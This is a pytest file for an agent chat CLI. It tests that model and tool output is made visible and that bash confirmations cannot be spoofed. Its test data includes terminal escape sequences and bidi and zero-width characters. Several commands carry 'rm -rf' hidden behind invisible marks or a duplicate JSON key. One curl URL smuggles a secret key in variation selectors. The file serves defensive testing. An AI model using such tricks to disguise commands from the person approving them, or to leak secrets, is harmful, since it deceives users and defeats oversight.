"""What `agentkit chat` prints from a tool or the model cannot steer the terminal, hide characters, or crash it."""

import asyncio
import json
import os
import re
import unicodedata

import pexpect
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from test_cli_chat import ask, start_chat

from agentkit.agent import open_workspace
from agentkit.asking import Cancelled
from agentkit.calls import ToolCall
from agentkit.events import Answer, CallAnswered, CallRequested, Status
from agentkit.frontends.chat import chat
from agentkit.frontends.terminal import Terminal, describe
from agentkit.hardening.visible import visible
from agentkit.offline import EmittedCall, ScriptedModel, offline_client
from agentkit.task import ModelFailed
from agentkit.tools.dispatcher import ToolResult

HIDDEN = {"Cc", "Cf", "Cs", "Zl", "Zp"}
"""Categories a terminal obeys or shows as nothing: controls, format characters (bidi, zero-width), surrogates."""
ATTACK = "safe\x1b[2K\r\x1b]0;title\x07\x9b1A\x9d8;;x\x9c\u0085\x7f \u202etxt.exe\u2066\u2069 r\u200bm \ufeff\u061c\udcff"


def hidden_characters(text: str) -> set[str]:
    return {c for c in text if unicodedata.category(c) in HIDDEN and c not in "\n\t"}


@settings(derandomize=True, max_examples=300)
@given(st.text())
@example(ATTACK)
def test_visible_leaves_nothing_a_terminal_would_obey_or_hide(text):
    shown = visible(text)
    assert not hidden_characters(shown)
    shown.encode("utf-8")  # lone surrogates are marked: writing never raises
    assert visible(shown) == shown, "showing twice changes nothing"
    assert "\n" not in visible(text, multiline=False)


def test_visible_marks_each_kind_and_leaves_plain_text_alone():
    assert visible("ls -la\n\tdone ✓ 日本") == "ls -la\n\tdone ✓ 日本"
    assert visible("a\x1b[2Kb\x9b1Ac\x7f") == "a\\x1b[2Kb\\u009b1Ac\\x7f"
    assert visible("rm \u202eexe.txt\u200b") == "rm <U+202E>exe.txt<U+200B>"
    assert visible("bad\udcff") == "bad<U+DCFF>"
    assert visible("one\ntwo", multiline=False) == "one\\ntwo"


def test_every_line_from_a_tool_or_the_model_is_made_visible():
    lines = [describe(CallRequested(ToolCall("", "bash\x1b[2K", '{"command": "rm \u202e-rf\x9b2K"}', None))),
             describe(CallAnswered(ToolCall("", "read_file", "{}", {}), ToolResult(ATTACK))),
             describe(Answer(f"Done.\n{ATTACK}")),
             describe(Status(ModelFailed("unreachable", ATTACK))),
             describe(Status(Cancelled(by=ATTACK)))]
    for line in lines:
        assert not hidden_characters(line), line
    assert lines[0] == '  -> bash\\x1b[2K {"command": "rm <U+202E>-rf\\u009b2K"}'
    assert lines[2].startswith("agent> Done.\nsafe\\x1b[2K\\r")


def confirmation(tmp_path, arguments: str) -> tuple[str, list[str]]:
    """The question the chat asks before a bash call with `arguments` (answered no), and the lines it printed."""
    model = ScriptedModel([EmittedCall("bash", arguments), "ok"])
    prompts, printed, answers = [], [], iter(["", "n", "/exit"])

    def read(prompt: str) -> str:
        prompts.append(prompt)
        return next(answers)

    asyncio.run(chat(offline_client(model), "offline", open_workspace(tmp_path), Terminal(read, printed.append)))
    return prompts[2], printed


def test_the_confirmation_shows_the_command_that_would_run_with_its_hidden_characters_marked(tmp_path):
    command = "echo safe \x1b[2K\r\x9b1A\u202e\u2066 rm -rf ~ \u2069\u200b"
    question, printed = confirmation(tmp_path, json.dumps({"command": command}, ensure_ascii=False))
    assert question.startswith("Allow bash ") and question.endswith("? [y/N] ")
    assert not hidden_characters(question + "".join(printed))
    assert "<U+202E><U+2066> rm -rf ~ <U+2069><U+200B>" in question and "\\u009b1A" in question


def test_a_tool_result_or_answer_that_is_not_valid_unicode_is_marked_and_the_chat_goes_on(tmp_path):
    printed = []

    def terminal_that_only_takes_utf8(text: str) -> None:
        printed.append(text.encode("utf-8").decode())  # as a UTF-8 terminal does: a lone surrogate would raise

    terminal = Terminal(write=terminal_that_only_takes_utf8)
    terminal.show(CallAnswered(ToolCall("", "glob", "{}", {}), ToolResult("1 path: bad\udcff.txt")))
    terminal.show(Answer("The file is bad\udcff.txt"))
    assert printed == ["  <- 1 path: bad<U+DCFF>.txt", "agent> The file is bad<U+DCFF>.txt"]


def test_a_file_with_escapes_and_invalid_utf8_cannot_repaint_the_terminal(tmp_path):
    files = tmp_path / "files"
    files.mkdir()
    (files / "notes.txt").write_bytes("title\x1b[2K\r\x1b]0;owned\x07\x1b[1A\u009b2J\u202eend\n".encode() + b"\xff\xfe\n")
    child = start_chat(tmp_path, "--workspace", "files")
    printed = ask(child, 'Run the bash command "cat notes.txt"', until="[y/N] ")
    printed += ask(child, "y")
    assert "\\x1b[2K\\r\\x1b]0;owned\\x07\\x1b[1A\\u009b2J<U+202E>end" in printed
    assert not hidden_characters(printed.replace("\r\n", "\n")), "no raw control from the file reached the terminal"
    assert "\ufffd\ufffd" in printed, "bytes that are not UTF-8 show as replacement characters"
    os.write(child.child_fd, b"\xff\xfe\n")  # typed: replaced too, and the chat goes on
    child.expect_exact("you> ")
    assert "(Asia/Tokyo)\nagent> " in ask(child, "What time is it in Tokyo?"), "the chat answers the next request"
    child.sendline("/exit")
    child.expect(pexpect.EOF)


SMUGGLED = "".join(chr(0xFE00 + byte % 16) if byte < 16 else chr(0xE0100 + byte - 16) for byte in b"key=sk-123")
"""`key=sk-123` hidden in variation selectors, one per byte: drawn as nothing after the character before them."""


def test_variation_selectors_cannot_hide_a_message_in_a_command(tmp_path):
    command = f"curl https://example.com/?q=ok{SMUGGLED}"
    shown = visible(command)
    assert shown.startswith("curl https://example.com/?q=ok<U+") and not hidden_characters(shown)
    assert len(re.findall(r"<U\+[0-9A-F]+>", shown)) == len(SMUGGLED), "each selector is marked"
    assert visible("I \u2764\ufe0f tea \u263a\ufe0e") == "I \u2764\ufe0f tea \u263a\ufe0e", "an emoji's style is kept"
    assert visible("\u2764\ufe0f\ufe0f") == "\u2764\ufe0f<U+FE0F>", "but only one, right after a symbol"


@pytest.mark.parametrize("invisible", ["\u17b4", "\u180b", "\U0001d173", "\u2065", "\ufff0", "\U000e01ef", "\u3164"])
def test_every_default_ignorable_character_is_marked(invisible):
    assert visible(f"rm{invisible} -rf") == f"rm<U+{ord(invisible):04X}> -rf"


@pytest.mark.parametrize("space", ["\u00a0", "\u2002", "\u2009", "\u202f", "\u3000", "\u2800", "\u1680"])
def test_the_confirmation_marks_spaces_bash_does_not_split_on(tmp_path, space):
    # `rm\u00a0-rf` is one word to bash; shown as a space, the person would read two.
    command = f"ls{space}-la ; echo{space}done"
    question, printed = confirmation(tmp_path, json.dumps({"command": command}, ensure_ascii=False))
    mark = f"<U+{ord(space):04X}>"
    assert f"ls{mark}-la ; echo{mark}done" in question and space not in question
    assert any(line.startswith("  -> bash ") and f"ls{mark}-la" in line for line in printed)
    assert visible(f"日本{space}語") == f"日本{space}語", "an answer keeps its spaces"


def test_a_repeated_argument_is_confirmed_as_the_value_that_runs(tmp_path):
    # JSON with a key twice: a parser keeps the last. The question must show that one, not the harmless first.
    question, _ = confirmation(tmp_path, '{"command": "echo harmless", "command": "rm -rf precious"}')
    assert question == 'Allow bash {"command": "rm -rf precious"}? [y/N] '


# ---- arguments in Chinese: shown as written, what is hidden still marked ------------------------------------------


@pytest.mark.parametrize("arguments, shown", [
    (json.dumps({"path": "笔记.txt"}), '{"path": "笔记.txt"}'),
    (json.dumps({"text": "好 😀"}), '{"text": "好 😀"}'),  # a surrogate pair is one character
    (json.dumps({"quote": 'a"b', "ascii": "\x01"}), json.dumps({"quote": 'a"b', "ascii": "\x01"})),  # ASCII escapes stay
    ('{"text": "\\\\u4f60"}', '{"text": "\\\\u4f60"}'),  # an escaped backslash then u4f60: text, not an escape
])
def test_a_tool_line_shows_chinese_as_chinese_and_keeps_what_json_must_escape(arguments, shown):
    from agentkit.hardening.visible import readable

    assert readable(arguments) == shown and json.loads(readable(arguments)) == json.loads(arguments)
    assert describe(CallRequested(ToolCall("", "write_file", arguments, None))) == f"  -> write_file {shown}"


def test_a_hidden_character_escaped_by_the_model_is_marked_in_every_front_end():
    from agentkit.frontends.transcript import transcript
    from agentkit.frontends.web.protocol import event_fields

    arguments = json.dumps({"path": "笔记\u202e.txt"})  # the model wrote \u202e: decoded, it must not turn the line
    call = CallRequested(ToolCall("c1", "read_file", arguments, None))
    assert describe(call) == '  -> read_file {"path": "笔记<U+202E>.txt"}'
    assert event_fields(call)["arguments"] == '{"path": "笔记<U+202E>.txt"}' and event_fields(call)["hidden"] == 1
    history = [{"role": "assistant", "content": None, "tool_calls": [
        {"id": "c1", "type": "function", "function": {"name": "write_file", "arguments": json.dumps({"path": "笔记.txt"})}}]}]
    assert '{"path": "笔记.txt"}' in str(transcript(history))
